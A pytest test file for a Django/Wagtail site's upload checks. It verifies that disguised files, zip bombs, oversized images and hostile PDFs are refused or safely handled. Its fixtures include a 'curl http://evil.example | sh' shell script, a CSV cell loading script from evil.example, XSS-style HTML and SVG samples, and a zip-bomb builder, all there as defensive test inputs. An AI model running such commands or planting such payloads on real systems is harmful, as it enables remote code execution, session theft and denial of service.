"""Uploads: a document is what its content says, not what its name says; sizes are bounded.

Expected formats come from real files made by reportlab, python-docx and odfpy, and from
archives built here with the markers the formats' specifications require.
"""

import io
import os
import time
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from PIL import Image
from wagtail.images import get_image_model

from toolkits import upload_checks
from toolkits.generated_documents import make_docx, make_odt, make_pdf
from toolkits.models import ToolkitDocument
from toolkits.upload_checks import UnsafeFile, check_document_file

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 200


def archive(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zip_file:
        for name, content in entries.items():
            zip_file.writestr(name, content)
    return buffer.getvalue()


def ooxml(part):
    return archive({"[Content_Types].xml": "<Types/>", f"{part}main.xml": "<x/>"})


def opendocument(mimetype):
    # The specifications put `mimetype` first and stored, which zipfile does when asked.
    return archive({"mimetype": mimetype, "content.xml": "<x/>"}, zipfile.ZIP_STORED)


REAL_FILES = {
    "pdf": make_pdf("Guide", ["Solidarity finance."]),
    "docx": make_docx("Guide", ["Solidarity finance."]),
    "odt": make_odt("Guide", ["Solidarity finance."]),
    "xlsx": ooxml("xl/"),
    "pptx": ooxml("ppt/"),
    "ods": opendocument("application/vnd.oasis.opendocument.spreadsheet"),
    "odp": opendocument("application/vnd.oasis.opendocument.presentation"),
    "epub": opendocument("application/epub+zip"),
    "csv": "country,cooperatives\nBR,12\nSN,7\nCôte d'Ivoire,3\n".encode(),
    "txt": "Économie sociale et solidaire: notes de l'atelier.\n".encode(),
}


def check(content, extension):
    check_document_file(io.BytesIO(content), extension)


def refusal(content, extension):
    with pytest.raises(UnsafeFile) as error:
        check(content, extension)
    return str(error.value)


# What each format must look like ------------------------------------------------------------


@pytest.mark.parametrize("extension", sorted(REAL_FILES))
def test_real_documents_of_every_allowed_format_pass(extension, settings):
    assert extension in settings.WAGTAILDOCS_EXTENSIONS
    check(REAL_FILES[extension], extension)


@pytest.mark.parametrize(
    ("content", "looks_like"),
    [
        (HTML, "web page (HTML)"),
        (b"\n  <html><body>hello</body></html>", "web page (HTML)"),
        (SVG, "SVG image"),
        (SHELL_SCRIPT, "a script"),
        (WINDOWS_PROGRAM, "a program"),
        (LINUX_PROGRAM, "a program"),
        (REAL_FILES["docx"], "zip archive"),
    ],
)
def test_a_file_renamed_to_pdf_is_refused_with_what_it_really_is(content, looks_like):
    message = refusal(content, "pdf")
    assert "named .pdf but it is not a PDF file" in message
    assert looks_like in message
    assert "export it as PDF" in message


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (HTML, "docx"),
        (REAL_FILES["odt"], "docx"),  # a zip, but OpenDocument
        (ooxml("xl/"), "docx"),  # OOXML, but a spreadsheet
        (archive({"word/document.xml": "<x/>"}), "docx"),  # no [Content_Types].xml
        (REAL_FILES["docx"], "odt"),  # a zip without `mimetype`
        (opendocument("application/vnd.oasis.opendocument.spreadsheet"), "odt"),
        (opendocument("text/html"), "epub"),
        (b"PK\x03\x04 but not really a zip", "xlsx"),
        (REAL_FILES["pdf"], "pptx"),
        (SVG, "ods"),
    ],
)
def test_office_files_need_their_zip_markers(content, extension):
    assert f"named .{extension}" in refusal(content, extension)


@pytest.mark.parametrize(
    "content",
    [
        HTML,
        SVG,
        SHELL_SCRIPT,
        REAL_FILES["pdf"],
        WINDOWS_PROGRAM,
        b"name,comment\nx,<script src=//evil.example/x.js></script>\n",
        b"name,link\nx,javascript:alert(1)\n",
        b"binary\x00\x01\x02data",
        "<svg onload=alert(1)>".encode("utf-16"),
    ],
)
@pytest.mark.parametrize("extension", ["csv", "txt"])
def test_text_files_must_be_text_without_markup_or_code(content, extension):
    message = refusal(content, extension)
    assert "text" in message


@pytest.mark.parametrize(
    "content",
    [
        "país;cooperativas\nBrasil;12\n".encode("cp1252"),  # as Excel saves a CSV
        "\ufeffpaís,cooperativas\n".encode(),  # UTF-8 with a byte order mark
        "país,cooperativas\n".encode("utf-16"),
        ("é" * (upload_checks.TEXT_SAMPLE_BYTES // 2 + 1)).encode(),  # a character cut in two
        b"a < b and c > d\n",
    ],
)
def test_text_in_the_usual_encodings_passes(content):
    check(content, "csv")


def test_an_extension_outside_the_allow_list_is_refused():
    assert "cannot be uploaded" in refusal(b"hello", "html")


# Zip bombs ----------------------------------------------------------------------------------


def zip_bomb_docx(inflated_bytes):
    """A valid-looking DOCX whose document.xml inflates to `inflated_bytes` of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zip_file:
        zip_file.writestr("[Content_Types].xml", "<Types/>")
        with zip_file.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"0" * (1024 * 1024)
            for _ in range(inflated_bytes // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating_it():
    bomb = zip_bomb_docx(upload_checks.MAX_ZIP_UNCOMPRESSED_BYTES + 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024

    started = time.monotonic()
    message = refusal(bomb, "docx")

    assert time.monotonic() - started < 0.5
    assert "once unpacked" in message


def test_a_highly_compressed_entry_is_refused_even_under_the_total_limit():
    assert "zip bomb" in refusal(zip_bomb_docx(20 * 1024 * 1024), "docx")


def test_an_archive_of_too_many_entries_is_refused():
    entries = {"[Content_Types].xml": "<Types/>"}
    entries |= {f"word/part{n}.xml": "" for n in range(upload_checks.MAX_ZIP_ENTRIES + 1)}
    assert "too many parts" in refusal(archive(entries, zipfile.ZIP_STORED), "docx")


# Through Wagtail's admin: single upload, multiple upload, edit, chooser ----------------------


def upload(name, content):
    return SimpleUploadedFile(name, content)


def test_single_upload_refuses_a_disguised_file_and_tells_the_editor(editor_client):
    response = editor_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Guide", "file": upload("guide.pdf", HTML), "collection": 1},
    )

    assert response.status_code == 200  # the form again, with the error
    assert "named .pdf but it is not a PDF file" in response.content.decode()
    assert not ToolkitDocument.objects.exists()


def test_single_upload_accepts_a_real_pdf(editor_client):
    response = editor_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Guide", "file": upload("guide.pdf", REAL_FILES["pdf"]), "collection": 1},
    )

    assert response.status_code == 302
    document = ToolkitDocument.objects.get()
    assert document.page_count == 1
    assert "Solidarity finance." in document.text_content


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("guide.pdf", SVG, "it is an SVG image"),
        ("guide.docx", HTML, "not a Word (DOCX) file"),
        ("page.html", HTML, "cannot be uploaded"),
        ("installer.exe", WINDOWS_PROGRAM, "cannot be uploaded"),
    ],
)
def test_multiple_upload_refuses_disguised_files(editor_client, name, content, expected):
    response = editor_client.post(
        reverse("wagtaildocs:add_multiple"), {"files[]": upload(name, content)}
    )

    data = response.json()
    assert data["success"] is False
    assert expected in data["error_message"]
    assert not ToolkitDocument.objects.exists()


def test_multiple_upload_accepts_real_documents(editor_client):
    for extension in ("pdf", "docx", "odt", "csv"):
        response = editor_client.post(
            reverse("wagtaildocs:add_multiple"),
            {"files[]": upload(f"guide.{extension}", REAL_FILES[extension])},
        )
        assert response.json()["success"] is True, extension
    assert ToolkitDocument.objects.count() == 4


def test_replacing_a_file_in_the_edit_view_is_checked_too(editor_client, editor):
    document = ToolkitDocument.objects.create(
        title="Guide",
        file=ContentFile(REAL_FILES["pdf"], name="guide.pdf"),
        uploaded_by_user=editor,
    )

    response = editor_client.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {"title": "Guide", "file": upload("guide.pdf", SHELL_SCRIPT), "collection": 1},
    )

    assert "it is a script" in response.content.decode()
    document.refresh_from_db()
    with document.open_file() as file:
        assert file.read().startswith(b"%PDF-")


def test_editing_the_title_alone_does_not_need_the_file_again(editor_client, editor):
    document = ToolkitDocument.objects.create(
        title="Guide",
        file=ContentFile(REAL_FILES["pdf"], name="guide.pdf"),
        uploaded_by_user=editor,
    )

    response = editor_client.post(
        reverse("wagtaildocs:edit", args=[document.pk]), {"title": "New title", "collection": 1}
    )

    assert response.status_code == 302
    document.refresh_from_db()
    assert document.title == "New title"


def test_the_chooser_upload_tab_checks_files_too(editor_client):
    response = editor_client.post(
        reverse("wagtaildocs_chooser:create"),
        {
            "document-chooser-upload-title": "Guide",
            "document-chooser-upload-file": upload("guide.pdf", HTML),
            "document-chooser-upload-collection": 1,
        },
    )

    assert "named .pdf but it is not a PDF file" in response.content.decode()
    assert not ToolkitDocument.objects.exists()


# Sizes --------------------------------------------------------------------------------------


def test_a_document_over_the_size_limit_is_refused(editor_client):
    with override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1000):
        response = editor_client.post(
            reverse("wagtaildocs:add"),
            {"title": "Big", "file": upload("big.pdf", REAL_FILES["pdf"]), "collection": 1},
        )

    assert "This file is too big" in response.content.decode()
    assert not ToolkitDocument.objects.exists()


def test_the_configured_limits_are_those_of_the_issue(settings):
    assert settings.WAGTAILDOCS_MAX_UPLOAD_SIZE == 50 * 1024 * 1024
    assert settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 15 * 1024 * 1024
    assert settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 40_000_000
    assert settings.WAGTAILDOCS_DOCUMENT_FORM_BASE == "toolkits.forms.ToolkitDocumentForm"


def png(width, height):
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def noise_png(width, height):
    buffer = io.BytesIO()
    Image.frombytes("L", (width, height), os.urandom(width * height)).save(buffer, "PNG")
    return buffer.getvalue()


def test_an_image_over_the_byte_limit_is_refused(editor_client):
    with override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=5000):
        response = editor_client.post(
            reverse("wagtailimages:add"),
            {"title": "Big", "file": upload("big.png", noise_png(100, 100)), "collection": 1},
        )

    assert "This file is too big" in response.content.decode()
    assert not get_image_model().objects.exists()


def test_an_image_over_the_pixel_limit_is_refused(editor_client):
    # A 1-bit PNG of 40 million pixels that weighs a few kilobytes: a decompression bomb.
    content = png(8000, 6000)
    assert len(content) < 100_000

    response = editor_client.post(
        reverse("wagtailimages:add"),
        {"title": "Huge", "file": upload("huge.png", content), "collection": 1},
    )

    assert "too many pixels" in response.content.decode()
    assert not get_image_model().objects.exists()


def test_an_image_within_the_limits_is_accepted(editor_client):
    response = editor_client.post(
        reverse("wagtailimages:add"),
        {"title": "Small", "file": upload("small.png", png(40, 30)), "collection": 1},
    )

    assert response.status_code == 302
    assert get_image_model().objects.get().width == 40


# Reading the text of hostile files (toolkits/file_contents.py) ------------------------------


def deeply_nested_pdf(depth):
    """A one-page PDF whose page holds an array nested `depth` levels deep."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /X "
        + b"[" * depth
        + b"]" * depth
        + b" >>",
    ]
    pdf, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return pdf


def test_a_deeply_nested_pdf_is_read_quickly_and_saved():
    started = time.monotonic()
    document = ToolkitDocument.objects.create(
        title="Nested", file=ContentFile(deeply_nested_pdf(100_000), name="nested.pdf")
    )

    assert time.monotonic() - started < 5
    assert document.pk is not None
    assert document.text_content == ""


def test_a_zip_bomb_saved_around_the_form_is_never_inflated(monkeypatch):
    from toolkits import file_contents

    class Opened:
        paragraphs, tables = [type("Paragraph", (), {"text": "python-docx opened it"})], []

    monkeypatch.setattr(file_contents.docx, "Document", lambda file: Opened())
    bomb = zip_bomb_docx(upload_checks.MAX_ZIP_UNCOMPRESSED_BYTES + 1024 * 1024)

    document = ToolkitDocument.objects.create(title="Bomb", file=ContentFile(bomb, "bomb.docx"))

    assert document.pk is not None
    assert document.text_content == ""


def test_a_reading_that_hangs_is_stopped_in_time(monkeypatch):
    from toolkits import file_contents

    monkeypatch.setattr(file_contents, "READING_TIMEOUT_SECONDS", 1)
    monkeypatch.setitem(file_contents.READERS, "txt", lambda file: time.sleep(60))

    started = time.monotonic()
    document = ToolkitDocument.objects.create(
        title="Slow", file=ContentFile(b"text", name="slow.txt")
    )

    assert time.monotonic() - started < 3
    assert document.text_content == ""


def test_a_reading_that_eats_memory_is_stopped_and_the_site_lives_on(monkeypatch):
    from toolkits import file_contents

    def greedy(file):
        hoard = []
        while True:
            hoard.append(bytearray(64 * 1024 * 1024))

    monkeypatch.setattr(file_contents, "READING_MEMORY_BYTES", 256 * 1024 * 1024)
    monkeypatch.setitem(file_contents.READERS, "txt", greedy)

    document = ToolkitDocument.objects.create(
        title="Greedy", file=ContentFile(b"text", name="greedy.txt")
    )

    assert document.text_content == ""
    assert ToolkitDocument.objects.get(pk=document.pk).title == "Greedy"
